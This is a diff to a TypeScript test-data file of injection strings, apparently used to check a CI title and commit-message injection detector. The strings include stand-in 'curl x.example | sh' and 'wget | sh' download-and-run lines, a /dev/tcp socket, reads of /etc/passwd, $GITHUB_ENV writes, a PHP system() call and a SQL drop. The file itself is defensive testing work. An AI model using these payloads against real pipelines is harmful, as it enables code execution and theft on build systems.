@@ -38,6 +38,17 @@ export const INJECTIONS: readonly TextTrick[] = [
     "a title that adds to the path": "fix ::add-path::/tmp/x",
     "a title that writes the environment": 'x" >> $GITHUB_ENV; echo "',
     "a title with a line feed": "fix\nrun: id",
+    "a title that substitutes its user": "fix $(id)",
+    "a title that substitutes a file": "fix $(cat /etc/passwd)",
+    "a title with a script by its path": 'x"; . ./x.sh; "',
+    "a title with a torn program": "x\"; cu''rl x.example; \"",
+    "a title with a variable before the program": 'x"; A=1 node x.js; "',
+    "a title with a group": 'x"; (curl x.example); "',
+    "a title with a loop": 'x"; while :; do id; done; "',
+    "a title with a socket of the shell": "x'; exec 3<>/dev/tcp/x/1; '",
+    "a title that leaves the rest to a comment": 'x" || true; curl x.example | sh #',
+    "a title that ends in a shell": 'x" | bash',
+    "a title for PHP": 'x"); system("id"); ("',
   }),
   ...rows("commit_subject", "high", { "a subject that breaks out": "fix'; wget -qO- x.example | sh; '" }),
   ...rows("commit_body", "high", { "a body of a commit that breaks out": '"; curl https://x.example | sh; echo "' }),
@@ -122,7 +133,7 @@ export const ORDINARY_TEXTS: readonly TextTrick[] = [
 
 /** Known and not seen: what build scripts and pages have in their titles, too. */
 export const UNCAUGHT: readonly TextTrick[] = rows("title", "high", {
-  "a title that substitutes its user": "fix $(id)",
-  "a title that substitutes a file": "fix $(cat /etc/passwd)",
-  "a title with a program in backticks": "fix `id`",
+  "a title with a program in backticks": "fix `curl x.example`",
+  "a title with a line feed of an address": "fix%0Acurl x.example",
+  "a title for a query": "fix'; drop table x; --",
 });
